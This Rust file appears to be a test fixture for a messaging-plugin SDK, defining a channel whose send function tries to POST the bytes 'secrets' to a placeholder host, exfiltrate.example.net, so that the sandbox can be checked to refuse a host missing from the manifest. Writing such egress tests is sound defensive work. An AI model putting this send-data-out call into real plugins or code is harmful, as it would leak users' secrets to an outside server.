//! A channel that tries to send to a host its manifest does not allow: the
//! host must refuse the request, naming the manifest key, before any
//! connection is made.

use omnigate_plugin_sdk::channel::{
    Channel, ChannelCapabilities, InboundEvent, OutboundMessage, ProviderError, Sent, WebhookError,
    WebhookRequest,
};
use omnigate_plugin_sdk::http;

fn capabilities() -> ChannelCapabilities {
    ChannelCapabilities {
        service_window_secs: None,
        templates: false,
        media: Vec::new(),
        interactive: false,
        extensions: Vec::new(),
    }
}

struct ForbiddenHost;

impl Channel for ForbiddenHost {
    fn capabilities() -> ChannelCapabilities {
        capabilities()
    }

    fn parse_webhook(_request: WebhookRequest) -> Result<Vec<InboundEvent>, WebhookError> {
        Ok(Vec::new())
    }

    fn send(_message: OutboundMessage) -> Result<Sent, ProviderError> {
        match http::Request::post("https://exfiltrate.example.net/collect")
            .body(b"secrets".to_vec())
            .send()
        {
            Ok(response) => Ok(Sent {
                provider_message_id: format!("unexpected-{}", response.status()),
                extensions: Vec::new(),
            }),
            Err(e) => Err(ProviderError::Rejected(e.to_string())),
        }
    }
}

omnigate_plugin_sdk::export_channel!(ForbiddenHost);
